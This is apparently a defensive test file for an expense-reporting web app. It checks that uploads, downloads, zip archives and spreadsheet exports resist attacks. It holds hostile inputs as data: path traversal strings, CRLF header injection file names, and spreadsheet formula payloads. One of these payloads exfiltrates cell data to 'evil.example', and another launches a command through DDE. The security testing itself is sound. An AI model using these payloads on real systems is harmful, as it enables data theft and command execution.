import { downloadReceiptsZipRoute, downloadReportRoute, routePath, type ReportJson } from '@outlay/contracts';
import { eventually, readReceiptsZip, readZip } from '@outlay/testing';
import { readSheet } from 'read-excel-file/node';
import { sendRaw, expectNoChange } from './testing/attack.js';
import { startOwnCompany, type Company, type Person } from './testing/company.js';
import { fileOf, pdf } from './testing/receipt-files.js';
import { IMPOSTORS, POLYGLOTS } from './testing/malicious-files.js';

const TRICKS = [
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '=cmd|" /C calc"!A0',
];

describe('attacks with files and file names', () => {
  let company: Company;
  beforeAll(async () => (company = await startOwnCompany()));
  afterAll(() => company.close());

  const expectError = (...request: Parameters<Company['api']['expectError']>) =>
    expectNoChange(company, () => company.api.expectError(...request));
  const upload = (file: File) => {
    const form = new FormData();
    form.append('file', file);
    return form;
  };
  const download = (path: string, as: Person) => company.api.send('GET', path, { as });
  const reportOn = async (paymentId: string) =>
    eventually(async () => {
      const { body } = await company.api.send('GET', '/api/admin/reports', { as: company.root });
      return (body as ReportJson[]).find(({ payment_id, status }) => payment_id === paymentId && status === 'ready');
    });

  it.each(Object.entries(IMPOSTORS))(
    '%s with the name and type of a PNG: 400 because of its content',
    async (_, bytes) => {
      const { mia: as } = company;
      const draft = await company.expense('draft');
      const file = () => fileOf(bytes, 'receipt.png', 'image/png');
      for (const [method, path, form] of [
        ['POST', '/api/expenses', company.form({}, file())],
        ['PUT', `/api/expenses/${draft.id}`, company.form({ status: 'draft' }, file())],
        ['POST', '/api/uploads', upload(file())],
      ] as const) {
        expect(await expectError(method, path, { as, form })).toMatchObject({ status: 400, code: 'INVALID_INPUT' });
      }
    },
  );

  it.each(Object.entries(POLYGLOTS))(
    '%s: served with its own type, sandboxed and nosniff',
    async (_, { type, bytes }) => {
      const { mia: as, api } = company;
      const { receipt, receipt_content_type } = await company.claim(
        {},
        { receipt: fileOf(bytes, 'page.html', 'text/html') },
      );
      expect(receipt_content_type).toBe(type);
      expect(receipt).not.toMatch(/html/);
      const url = `/uploads/${receipt}`;
      const signed = await api.send('POST', '/api/signed-urls', { as, json: { path: url } });
      for (const response of [await download(url, as), await api.send('GET', String(Object(signed.body).url))]) {
        expect(response.bytes).toEqual(bytes);
        expect(response.headers.get('content-type')).toBe(type);
        expect(response.headers.get('x-content-type-options')).toBe('nosniff');
        // Chrome does not display a sandboxed PDF; without a sandbox, its viewer isolates it.
        const policy = type === 'application/pdf' ? /script-src 'self'/ : /^default-src 'none'; sandbox$/;
        expect(response.headers.get('content-security-policy')).toMatch(policy);
      }
    },
  );

  it.each([
    '..',
    '..%2f..%2fsecret',
    '%2e%2e%2fsecret',
    '%2e%2e/%2e%2e/secret',
    '..%5csecret',
    '%00',
    'a%00.pdf',
    '%252e%252e%252fsecret',
    '%2fetc%2fpasswd',
    '....//secret',
  ])('a file named %s: not found', async (name) => {
    for (const path of [
      `/uploads/${name}`,
      `/reports/${name}`,
      `/api/admin/reports/${name}/download`,
      `/api/admin/reports/${name}/receipts-zip`,
      `/api/admin/reports/${name}/json`,
    ]) {
      const { status, text } = await sendRaw(company.product.origin, path, { as: company.root });
      expect([path, status, JSON.parse(text).code]).toEqual([path, 404, 'NOT_FOUND']);
    }
    // The static file plugin rejects some of these as malformed addresses.
    const docs = await sendRaw(company.product.origin, `/api/docs/${name}`);
    expect([400, 404]).toContain(docs.status);
    expect(JSON.parse(docs.text)).toMatchObject({ code: expect.stringMatching(/^(NOT_FOUND|INVALID_INPUT)$/) });
  });

  it.each([
    ['quotes', 'a".pdf"; filename="b.html'],
    ['a line break', 'a\r\nSet-Cookie: x=1\r\n\r\n<script>.pdf'],
    ['a folder', '../../../etc/x.pdf'],
    ['another folder', 'C:\\temp\\..\\x.pdf'],
    ['no ASCII', 'Beleg “Zürich” 🧾.pdf'],
    ['a direction', 'fdp.\u202Egpj.pdf'],
    ['nothing', '.'],
    ['a great length', `${'x'.repeat(3000)}.pdf`],
  ])('a receipt with %s in its name: one valid header, and a name chosen by the server', async (_, name) => {
    const { mia: as } = company;
    const { receipt } = await company.claim({}, { receipt: pdf(name, name) });
    expect(receipt).toMatch(/^[0-9a-f-]{36}\.pdf$/);
    const { headers, status } = await download(`/uploads/${receipt}`, as);
    expect(status).toBe(200);
    expect(headers.get('set-cookie')).toBeNull();
    expect(headers.get('content-disposition')).toMatch(
      /^inline; filename="[^"\\\r\n%;/]*"; filename\*=UTF-8''([\w.~-]|%(?!0[0-9A-F]|2F|5C)[0-9A-F]{2})+$/,
    );
  });

  it('receipts with equal names, or folders in their names, have names chosen by the server in the zip', async () => {
    const { root, api } = company;
    const gus = await company.addPerson('team_member');
    const names = { first_name: '../../x', last_name: '..\\y"\r\nX: z' };
    await api.send('PUT', `/api/admin/users/${gus.user.id}/role`, { as: root, json: names });
    await company.login(gus);
    const files = ['same.pdf', 'same.pdf', 'SAME.PDF', '../../evil.pdf', '/etc/passwd', 'CON.pdf'];
    const approved = [];
    for (const [index, name] of files.entries()) {
      approved.push(await company.approve(await company.claim({}, { as: gus, receipt: pdf(`${index}`, name) })));
    }
    const json = { expense_ids: approved.map(({ id }) => id), user_name: '../../z' };
    const { body } = await api.send('POST', '/api/admin/expenses/bulk-mark-paid', { as: root, json });
    const { filename } = await reportOn(String(Object(body).payment_id));
    expect(filename).toMatch(/^[A-Za-z0-9_-]+\.xlsx$/);

    const response = await download(routePath(downloadReceiptsZipRoute, { filename }), gus);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9_-]+\.zip"; /);
    const entries = await readReceiptsZip(response.bytes);
    expect(entries).toHaveLength(files.length);
    for (const entry of entries) expect(entry.name).toMatch(/^EXP-[A-Za-z0-9_-]+\.pdf$/);
    expect(new Set(entries.map((entry) => entry.name.toLowerCase())).size).toBe(files.length);
  });

  it('texts that start like a formula are string cells in the file and the preview', async () => {
    const { root, api } = company;
    const as = await company.addPerson('partner');
    const names = { first_name: '=1+1', last_name: '@SUM(A1)' };
    await api.send('PUT', `/api/admin/users/${as.user.id}/role`, { as: root, json: names });
    await company.login(as);
    const approved = [];
    for (const trick of TRICKS) {
      const plain = await company.claim({ currency: 'USD' }, { as });
      const override_exchange_rate = ((plain.exchange_rate ?? 0) * 1.01).toFixed(6);
      const over = { currency: 'USD', override_exchange_rate, override_reason: trick };
      const expense = await company.claim({ ...over, justification: trick, type: trick.slice(0, 60) }, { as });
      approved.push(await company.approve(expense));
    }
    const { payment_id } = await company.pay(...approved);
    const { filename } = await reportOn(payment_id);
    const { bytes } = await download(routePath(downloadReportRoute, { filename }), as);

    const sheets = (await readZip(bytes)).filter(({ name }) =>
      /worksheets\/.*\.xml$|sharedStrings|externalLink/.test(name),
    );
    expect(sheets.map(({ name }) => name)).toEqual([
      ...['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/sharedStrings.xml'],
    ]);
    for (const sheet of sheets) expect(sheet.bytes.toString()).not.toMatch(/<f[ >/]|<hyperlink|<oleObject/);
    const read = await readSheet(bytes, { trim: false });
    const { body } = await api.send('GET', `/api/admin/reports/${filename}/json`, { as });
    for (const rows of [read, Object(body).rows as unknown[][]]) {
      const cells = rows.flat().filter((cell) => typeof cell === 'string');
      for (const { justification } of approved)
        expect(cells.filter((cell) => cell === justification).length).toBeGreaterThan(1);
    }
  });
});
